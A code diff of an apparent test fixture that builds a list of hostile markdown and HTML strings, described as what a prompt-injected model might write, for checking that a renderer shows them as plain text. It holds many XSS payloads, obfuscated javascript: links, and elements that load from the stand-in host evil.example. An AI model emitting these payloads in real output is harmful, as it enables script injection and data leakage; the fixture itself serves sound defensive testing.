@@ -1,5 +1,4 @@
-/** What a prompt-injected model might write: each must come out as harmless text. */
-export const hostileTexts: string[] = [
+const written: string[] = [
   '<script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
   '<svg onload=alert(1)><circle/></svg>',
@@ -48,4 +47,118 @@ export const hostileTexts: string[] = [
   '<![CDATA[<script>alert(1)</script>]]>',
   '<?xml version="1.0"?><script>alert(1)</script>',
   '\u202Etxet desrever\u202C \u0000 \uFFFE',
+];
+
+const EVIL = 'https://evil.example';
+
+/** Addresses that must never become a link, as they are written or hidden. */
+const addresses = [
+  'javascript:alert(1)',
+  'JAVASCRIPT:alert(1)',
+  'javascript://ok.example/%0aalert(1)',
+  '\u0001javascript:alert(1)',
+  'java&#10;script:alert(1)',
+  'java&Tab;script:alert(1)',
+  'javascript&#58;alert(1)',
+  '&#x6A;avascript:alert(1)',
+  '%6aavascript:alert(1)',
+  '\u200Bjavascript:alert(1)',
+  'javascript\u003Aalert(1)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  'vbscript:msgbox(1)',
+  'file:///etc/passwd',
+  'filesystem:https://evil.example/x',
+  'blob:https://evil.example/1',
+  'about:blank',
+  'view-source:https://evil.example',
+  'chrome://settings',
+  'ftp://evil.example/x',
+  'ws://evil.example',
+  'intent://evil.example#Intent;end',
+  'tel:+123',
+  '//evil.example/x',
+  '\\\\evil.example\\x',
+  '/api/session/clear',
+  '?session=stolen',
+  '#fragment',
+];
+
+const places: ((address: string) => string)[] = [
+  (address) => `[x](${address})`,
+  (address) => `[x](<${address}>)`,
+  (address) => `<${address}>`,
+  (address) => `![x](${address})`,
+  (address) => `[![x](${address})](${address} "title")`,
+  (address) => `[x][r]\n\n[r]: ${address}`,
+  (address) => `| a |\n|---|\n| [x](${address}) |`,
+  (address) => `see ${address} there`,
+];
+
+const handlers = 'onerror onload onclick onfocus onmouseover onanimationstart ontoggle onpointerenter onbegin onpageshow';
+const hosts: ((handler: string) => string)[] = [
+  (handler) => `<img src=x ${handler}=alert(1)>`,
+  (handler) => `<svg/${handler}=alert(1)>`,
+  (handler) => `<body ${handler}="alert(1)">`,
+  (handler) => `<input autofocus ${handler}='alert(1)'>`,
+  (handler) => `[x](https://ok.example"${handler}="alert\\(1\\))`,
+];
+
+/** Elements that load, send or run by themselves. */
+const loaders = [
+  `<img src="${EVIL}/1">`,
+  `<img srcset="${EVIL}/1 1x">`,
+  `<picture><source srcset="${EVIL}/1"><img></picture>`,
+  `<audio src="${EVIL}/1" autoplay></audio>`,
+  `<video poster="${EVIL}/1"></video>`,
+  `<embed src="${EVIL}/1">`,
+  `<object data="${EVIL}/1"></object>`,
+  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+  `<frame src="${EVIL}/1">`,
+  `<link rel=preload as=image href="${EVIL}/1">`,
+  `<link rel=dns-prefetch href="${EVIL}">`,
+  `<script src="${EVIL}/1"></script>`,
+  `<script type=module>import '${EVIL}/1'</script>`,
+  `<style>*{background:url(${EVIL}/1)}</style>`,
+  `<div style="background-image:url('${EVIL}/1')">x</div>`,
+  `<table background="${EVIL}/1"><td>x</table>`,
+  `<svg><image href="${EVIL}/1"/></svg>`,
+  `<svg><use href="${EVIL}/1#x"/></svg>`,
+  `<svg><animate attributeName=href values=javascript:alert(1) /></svg>`,
+  `<math href="javascript:alert(1)">x</math>`,
+  `<form action=${EVIL}><input type=submit formaction="javascript:alert(1)"></form>`,
+  `<a ping="${EVIL}/1" href="https://ok.example">x</a>`,
+  `<template shadowrootmode=open><img src="${EVIL}/1"></template>`,
+  `<portal src="${EVIL}/1"></portal>`,
+  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+  `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
+];
+
+const wrappers: ((text: string) => string)[] = [
+  (text) => `> ${text}`,
+  (text) => `> > - ${text}`,
+  (text) => `1. ${text}`,
+  (text) => `### ${text}`,
+  (text) => `**${text}**`,
+  (text) => `[${text}](https://ok.example)`,
+  (text) => `\`${text}`,
+  (text) => `\`\`\`\n${text}`,
+  (text) => `|${text}|b|\n|-|-|\n|${text}|`,
+  (text) => `a${text}b`,
+];
+const cores = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '[x](javascript:alert(1))',
+  `![x](${EVIL}/1)`,
+  '`─●─"><img src=x onerror=alert(1)>`',
+];
+
+/** What a prompt-injected model might write: each must come out as harmless text. */
+export const hostileTexts: string[] = [
+  ...written,
+  ...addresses.flatMap((address) => places.map((place) => place(address))),
+  ...handlers.split(' ').flatMap((handler) => hosts.map((host) => host(handler))),
+  ...loaders,
+  ...cores.flatMap((core) => wrappers.map((wrap) => wrap(core))),
 ];
